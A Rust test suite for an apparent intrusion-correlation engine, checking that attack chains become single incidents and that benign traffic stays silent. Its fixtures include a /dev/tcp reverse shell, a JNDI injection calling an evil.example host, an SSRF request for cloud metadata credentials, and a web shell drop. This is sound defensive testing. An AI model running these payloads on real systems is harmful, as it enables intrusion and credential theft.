//! Scripted chains of many kinds, and ordinary things that must stay silent.

use std::sync::Arc;

use crate::event::MetadataPath;
use crate::evidence::{EgressEvidence, Gap, HostEvidence, HostFinding, Novelty, ProgramClass, RouteBasis};
use crate::incident::{Join, Severity, Stage, Timing};
use crate::request::{AttackClass, Indicator};

use super::build::*;

const ALL: [Stage; 3] = [Stage::Edge, Stage::Host, Stage::Egress];

#[test]
fn the_full_chain_is_one_critical_incident_with_its_request() {
    let run = Run::of(full_chain());
    let incident = run.only();
    assert_eq!(
        (incident.severity, incident.stages.as_slice(), incident.provisional),
        (Severity::Critical, &ALL[..], false)
    );
    let best = incident.candidates.best().expect("a request");
    assert_eq!((best.join, best.timing), (Join::Descendant, Timing::InFlight));
    assert!(best.echoes.iter().any(|echo| echo.distinctive), "{best:?}");
    let stages: Vec<Stage> = incident.timeline.iter().map(|step| step.stage).collect();
    assert_eq!(stages, [Stage::Edge, Stage::Host, Stage::Host, Stage::Egress]);
    assert_eq!(incident.exposures[0].credential, "instance role `shop-prod`");
    assert!(incident.confidence >= 0.95, "{}", incident.confidence);
    let ids: Vec<&str> = incident.techniques.iter().map(|technique| technique.id.as_ref()).collect();
    assert_eq!(ids, ["T1059.004", "T1071", "T1190", "T1552.005"]);
    let revisions: Vec<u32> = run.revisions.iter().map(|incident| incident.revision).collect();
    assert_eq!(revisions, (1..=revisions.len()).map(|n| u32::try_from(n).expect("few")).collect::<Vec<_>>());
}

#[test]
fn the_record_is_the_golden_one() {
    let run = Run::of(full_chain());
    let record = serde_json::to_string_pretty(run.only()).expect("writes");
    let golden = include_str!("../../incident/text/full_chain.json");
    assert!(record.trim() == golden.trim(), "--- record\n{record}");
}

fn late_by(seconds: f64) {
    let mut run = Run::of(full_chain().split_off(1));
    let provisional = run.only().clone();
    assert!(provisional.provisional && provisional.severity >= Severity::High, "{provisional:?}");
    assert!(provisional.missing.iter().any(|text| text.contains("no load balancer line")), "{:?}", provisional.missing);
    let mut clock = 60.0;
    while clock < seconds {
        run.advance(clock);
        clock += 60.0;
    }
    assert_eq!(run.revisions.len(), 1 + run.revisions.iter().filter(|i| i.revision > 1).count());
    run.feed(injection(0.0));
    let raised = run.only();
    assert_eq!(
        (raised.id.as_str(), raised.severity, raised.provisional),
        (provisional.id.as_str(), Severity::Critical, false)
    );
    assert!(raised.revision > provisional.revision);
}

#[test]
fn an_edge_line_half_an_hour_late_raises_the_same_incident() {
    late_by(1800.0);
}

#[test]
fn an_edge_line_six_hours_late_raises_the_same_incident() {
    late_by(6.0 * 3600.0 - 1.0);
}

#[test]
fn an_edge_line_beyond_the_bound_is_counted_and_changes_nothing() {
    let mut run = Run::of(full_chain().split_off(1));
    run.settle();
    let before = run.revisions.len();
    run.feed(injection(0.0));
    assert_eq!((run.revisions.len(), run.engine.counters().edge_out_of_bounds), (before, 1));
    let last = run.only();
    assert!(!last.provisional && last.settled);
}

fn silent<I: Into<Input>>(inputs: impl IntoIterator<Item = I>) {
    let mut run = Run::through_time(inputs.into_iter().map(Into::into));
    run.settle();
    let titles: Vec<_> = run.revisions.iter().map(|incident| (&incident.title, &incident.contributions)).collect();
    assert!(titles.is_empty(), "{titles:#?}");
}

#[test]
fn a_single_stage_is_silent() {
    silent([shell(0.0, "id")]);
    silent([reverse_shell(0.0, "id")]);
    silent([credential(0.0)]);
    silent([egress(0.0, "203.0.113.7:443")]);
    silent([injection(0.0)]);
}

#[test]
fn a_single_stage_is_told_when_asked_for() {
    let mut run = Run::with(crate::correlate::Config { single_stage: true, ..Default::default() });
    run.feed(shell(0.0, "id"));
    assert_eq!(run.only().severity, Severity::Low);
}

/// A day of a shop that calls its SDK, shells out, sends webhooks, is scanned, and is deployed once.
fn benign_day() -> Vec<Input> {
    let mut day: Vec<Input> = Vec::new();
    for minute in 0..1440_u32 {
        let start = f64::from(minute) * 60.0;
        for n in 0..10_u32 {
            day.push(line(start + f64::from(n) * 6.0, &format!("/item/{minute}/{n}")).into());
        }
        day.push(probe(start + 3.0, minute).into());
        if minute % 50 == 0 {
            let known = Novelty::Known;
            let sdk = metadata(start + 7.0, below(&[]), MetadataPath::Credential);
            day.push(HostEvidence { novelty: known, ..sdk }.into());
            day.push(HostEvidence { novelty: known, ..shell(start + 9.0, "convert a.png b.png") }.into());
        }
        if minute % 90 == 0 {
            let hook = contact(start + 30.0, below(&[]), &format!("203.0.113.{}:443", minute / 90 + 1));
            day.push(EgressEvidence { name: Some(Arc::from("hooks.customer.example")), ..hook }.into());
        }
    }
    day.push(shell(40_000.0, "/opt/shop/bin/migrate --all").into());
    day.sort_by_key(Input::event_time);
    day
}

#[test]
fn an_ordinary_day_is_silent() {
    silent(benign_day());
}

#[test]
fn an_ordinary_shell_during_the_same_day_with_a_real_attack_is_still_one_incident() {
    let mut inputs = benign_day();
    let attack = full_chain().into_iter().map(|input| shifted(input, 7000.0));
    inputs.extend(attack);
    inputs.sort_by_key(Input::event_time);
    let run = Run::through_time(inputs);
    let incident = run.only();
    assert_eq!(incident.severity, Severity::Critical);
    assert!(
        incident.candidates.best().is_some_and(|best| best.request.url.contains("curl")),
        "{:?}",
        incident.candidates
    );
}

fn shifted(input: Input, seconds: f64) -> Input {
    let later = |time: crate::timestamp::Timestamp| time.plus(std::time::Duration::from_secs_f64(seconds));
    match input {
        Input::Edge(line) => {
            Input::Edge(Line { received: line.received + seconds, completed: line.completed + seconds, ..line })
        }
        Input::Host(evidence) => Input::Host(HostEvidence { at: later(evidence.at), ..evidence }),
        Input::Egress(evidence) => Input::Egress(EgressEvidence { at: later(evidence.at), ..evidence }),
        Input::Gap(gap) => Input::Gap(gap),
    }
}

#[test]
fn server_side_request_forgery_to_the_metadata_api_needs_no_shell() {
    let forged = Line {
        verdict: Some(verdict(
            AttackClass::Ssrf,
            95,
            vec![Indicator::Address("169.254.169.254".parse().expect("address"))],
        )),
        ..line(0.0, "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/")
    };
    // What the service asks for as a rule may also be chance.
    for (novelty, severity) in [(Novelty::New, Severity::High), (Novelty::Known, Severity::Medium)] {
        let asked = HostEvidence { novelty, ..metadata(0.1, below(&[]), MetadataPath::Credential) };
        let run = Run::of([Input::from(forged.clone()), asked.into()]);
        let incident = run.only();
        assert_eq!((incident.severity, incident.stages.as_slice()), (severity, &[Stage::Edge, Stage::Host][..]));
        assert_eq!(incident.exposures.len(), 1, "{novelty:?}");
    }
    // The SDK of the same service, an hour after the forged request, is nobody's doing.
    let sdk = HostEvidence { novelty: Novelty::Known, ..metadata(3600.0, below(&[]), MetadataPath::Credential) };
    silent([Input::from(forged), sdk.into()]);
}

#[test]
fn code_run_inside_the_service_shows_as_a_contact_that_the_request_asked_for() {
    let lookup = Line {
        verdict: Some(verdict(AttackClass::JavaInjection, 95, vec![Indicator::Host("x7.evil.example".into())])),
        ..line(0.0, "/login?user=${jndi:ldap://x7.evil.example/a}")
    };
    let callback =
        EgressEvidence { name: Some(Arc::from("x7.evil.example")), ..contact(0.1, below(&[]), "203.0.113.66:1389") };
    let run = Run::of([Input::from(callback), lookup.into()]);
    let incident = run.only();
    assert_eq!((incident.severity, incident.stages.as_slice()), (Severity::High, &[Stage::Edge, Stage::Egress][..]));
}

#[test]
fn a_new_peer_in_flight_of_an_exploit_that_names_nobody_is_its_doing_if_it_can_be() {
    let check = |class: AttackClass, raised: bool| {
        let exploit = Line { verdict: Some(verdict(class, 95, vec![])), ..line(0.0, "/a?b=…") };
        let run = Run::of([Input::from(contact(0.1, below(&[]), "203.0.113.66:443")), exploit.into()]);
        assert_eq!(!run.finals().is_empty(), raised, "{class:?}");
    };
    check(AttackClass::Deserialization, true);
    check(AttackClass::Ssti, true);
    check(AttackClass::Ssrf, true);
    // These read what the service holds.
    check(AttackClass::Traversal, false);
    check(AttackClass::Sqli, false);
}

#[test]
fn a_reverse_shell_and_its_peer_are_high_before_any_edge_line() {
    let shell = reverse_shell(5.0, "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1");
    let peer = contact(5.0, shell.place.clone(), "203.0.113.7:4444");
    let run = Run::of([Input::from(peer), shell.into()]);
    let incident = run.only();
    assert_eq!((incident.severity, incident.provisional), (Severity::High, true));
}

#[test]
fn a_contact_after_a_double_fork_is_tied_by_lineage() {
    // Reparented to init long ago; its frozen lineage still names the shell.
    let daemon =
        below(&[(205, "/tmp/.x", "/tmp/.x"), (204, "/tmp/.x", "/tmp/.x"), (200, "/usr/bin/dash", "sh -c /tmp/.x &")]);
    let inputs =
        [Input::from(injection(0.0)), shell(0.1, "/tmp/.x &").into(), contact(900.0, daemon, "203.0.113.9:443").into()];
    let run = Run::of(inputs);
    let step = run.only().timeline.iter().find(|step| step.stage == Stage::Egress).expect("a contact");
    assert_eq!((step.join, run.only().severity), (Join::Descendant, Severity::Critical));
}

#[test]
fn a_chain_that_pauses_for_hours_stays_one_incident() {
    let mut inputs = full_chain();
    let last = inputs.pop().expect("egress");
    inputs.push(shell(5.0 * 3600.0, "./run").into());
    inputs.push(shifted(last, 5.0 * 3600.0 + 1.0));
    let mut run = Run::through_time(inputs);
    run.settle();
    assert_eq!(run.only().stages, ALL);
}

#[test]
fn two_breaches_a_day_apart_are_two_incidents() {
    let both =
        [0.0, 86_400.0].into_iter().flat_map(|day| full_chain().into_iter().map(move |input| shifted(input, day)));
    let run = Run::through_time(both);
    assert_eq!(run.finals().len(), 2);
}

#[test]
fn a_web_shell_dropped_in_one_request_and_used_in_another_tells_both() {
    let path = || vec![Indicator::Path("/srv/shop/upload/x7.php".into())];
    let drop =
        Line { verdict: Some(verdict(AttackClass::CodeInjection, 85, path())), ..line(0.0, "/upload?name=x7.php") };
    let command = vec![Indicator::Command("tar c /srv/shop/secret".into())];
    let used =
        Line { verdict: Some(verdict(AttackClass::Webshell, 90, command)), ..line(4000.0, "/upload/x7.php?c=…") };
    let other = |evidence: HostEvidence, pid| HostEvidence {
        place: below(&[(pid, "/usr/bin/dash", &evidence.place.lineage[0].command_line.clone())]),
        ..evidence
    };
    let inputs = [
        Input::from(drop),
        other(shell(0.1, "echo PD9 > /srv/shop/upload/x7.php"), 300).into(),
        used.into(),
        other(shell(4000.1, "tar c /srv/shop/secret"), 301).into(),
    ];
    let run = Run::of(inputs);
    let edges = run.only().timeline.iter().filter(|step| step.stage == Stage::Edge).count();
    assert_eq!(edges, 2, "{:#?}", run.only().timeline);
}

#[test]
fn an_exploit_in_a_body_is_pinned_by_time_alone() {
    let inputs =
        [Input::from(line(0.0, "/api/upload")), shell(0.1, "./run").into(), egress(0.2, "203.0.113.7:80").into()];
    let run = Run::of(inputs);
    let incident = run.only();
    let best = incident.candidates.best().expect("a request");
    assert_eq!((best.timing, best.request.url.as_str()), (Timing::InFlight, "https://shop.example:443/api/upload"));
    assert!(incident.provisional && incident.severity < Severity::Critical);
    assert!(incident.missing.iter().any(|text| text.contains("by time alone")), "{:?}", incident.missing);
}

#[test]
fn several_requests_in_flight_are_told_as_candidates() {
    let mut inputs: Vec<Input> = (0..5).map(|n| line(f64::from(n) * 0.01, &format!("/api/{n}")).into()).collect();
    inputs.extend([Input::from(shell(0.15, "./run")), egress(0.3, "203.0.113.7:80").into()]);
    let incident = Run::of(inputs).only().clone();
    assert_eq!((incident.candidates.ranked.len(), incident.candidates.in_flight), (5, 5));
    assert!(incident.candidates.ranked[0].reason.contains("one of 5"), "{}", incident.candidates.ranked[0].reason);
}

#[test]
fn a_proxy_in_front_of_the_service_joins_by_host_and_echo() {
    let proxied = Line { workload: workload("nginx"), owner: Some(process(50)), ..injection(0.0) };
    let mut inputs = full_chain();
    inputs[0] = proxied.into();
    for order in [[0, 1, 2, 3], [1, 2, 3, 0]] {
        let run = Run::of(order.map(|n| inputs[n].clone()));
        let best = run.only().candidates.best().expect("a request");
        assert_eq!((best.join, run.only().severity), (Join::SameHost, Severity::Critical));
    }
}

#[test]
fn a_request_to_a_neighbour_alone_proves_nothing() {
    let neighbour = Line { workload: workload("blog"), owner: Some(process(70)), ..injection(-30.0) };
    let run = Run::of([Input::from(neighbour), shell(0.1, "./run").into(), egress(0.2, "203.0.113.99:80").into()]);
    assert!(run.only().provisional, "{:?}", run.only().candidates);
}

#[test]
fn two_instances_of_one_workload_are_told_apart() {
    let mut other = (*workload("shop")).clone();
    other.cgroup = Arc::from("/system.slice/shop-2");
    let to_other = Line { workload: Arc::new(other), owner: Some(process(70)), ..injection(0.0) };
    let mut inputs = full_chain();
    inputs[0] = to_other.into();
    let best = Run::of(inputs).only().candidates.best().expect("echoed").clone();
    assert_eq!(best.join, Join::SameHost);
}

#[test]
fn a_helper_that_is_quicker_than_the_shell_still_counts() {
    let helper = contact(-1.0, below(&[(150, "/opt/shop/bin/helper", "helper")]), "203.0.113.7:80");
    let run = Run::of([Input::from(helper), injection(0.0).into(), shell(0.1, "./run").into()]);
    assert_eq!(run.only().stages, ALL);
}

#[test]
fn what_is_odd_in_itself_counts_while_learning() {
    let learning = |evidence: HostEvidence| HostEvidence { novelty: Novelty::NewWhileLearning, ..evidence };
    let away = EgressEvidence { novelty: Novelty::NewWhileLearning, ..egress(0.3, "203.0.113.7:80") };
    let run = Run::of([Input::from(learning(shell(0.1, "x"))), learning(credential(0.2)).into(), away.into()]);
    assert!(run.only().severity >= Severity::High);
    assert!(run.only().missing.iter().any(|text| text.contains("learning")));
    let quiet = contact(0.3, below(&[]), "203.0.113.7:80");
    let quiet = EgressEvidence { novelty: Novelty::NewWhileLearning, ..quiet };
    silent([Input::from(learning(shell(0.1, "x"))), quiet.into()]);
}

#[test]
fn contradictory_lines_of_one_request_both_stand() {
    let mut inputs = full_chain();
    inputs.push(Line { status: 404, completed: 0.05, ..injection(0.0) }.into());
    inputs.push(Line { received: 0.05, completed: 0.01, ..injection(0.0) }.into());
    let mut run = Run::of(inputs);
    run.settle();
    assert_eq!((run.only().candidates.ranked.len(), run.only().severity), (3, Severity::Critical));
}

#[test]
fn losses_are_named_in_the_incidents_they_may_touch() {
    let lost = |from: f64, name: Option<&str>| {
        let workload = name.map(|name| workload(name).key.clone());
        Input::Gap(Gap { from: at(from), to: at(from + 1.0), sense: "connect".into(), count: 7, workload })
    };
    let told = |gap: Input| {
        let mut inputs = vec![gap];
        inputs.extend(full_chain());
        Run::of(inputs).only().missing.iter().any(|text| text.contains("7 connect records were lost"))
    };
    assert!(told(lost(-10.0, None)));
    assert!(told(lost(-10.0, Some("shop"))));
    assert!(!told(lost(-10.0, Some("blog"))));
    assert!(!told(lost(40_000.0, None)));
}

#[test]
fn nothing_is_reported_twice() {
    let mut run = Run::of(full_chain());
    let before = run.revisions.len();
    full_chain().into_iter().for_each(|input| run.feed(input));
    run.advance(120.0);
    assert_eq!(run.revisions.len(), before);
}

#[test]
fn more_of_the_same_is_reported_once_an_hour() {
    let mut run = Run::of(full_chain());
    let before = run.revisions.len();
    for minute in 1..120_u32 {
        let seconds = f64::from(minute) * 60.0;
        let again = HostEvidence {
            finding: HostFinding::Spawn { class: ProgramClass::Interpreter, socket_stdio: false, fileless: false },
            place: below(&[(400 + minute, "/usr/bin/python3", "python3 -c …"), (200, "/usr/bin/dash", "sh -c ./run")]),
            ..shell(seconds, "")
        };
        run.advance(seconds);
        run.feed(again);
    }
    assert!((1..=3).contains(&(run.revisions.len() - before)), "{}", run.revisions.len() - before);
    assert!(run.only().timeline_omitted > 0);
}

#[test]
fn a_route_from_the_config_joins_to_the_workload() {
    let mut inputs = full_chain();
    let mut routed = (*workload("shop")).clone();
    routed.cgroup = Arc::from("");
    inputs[0] = Line { workload: Arc::new(routed), owner: None, basis: RouteBasis::Route, ..injection(0.0) }.into();
    assert_eq!(Run::of(inputs).only().candidates.best().expect("a request").join, Join::SameWorkload);
}
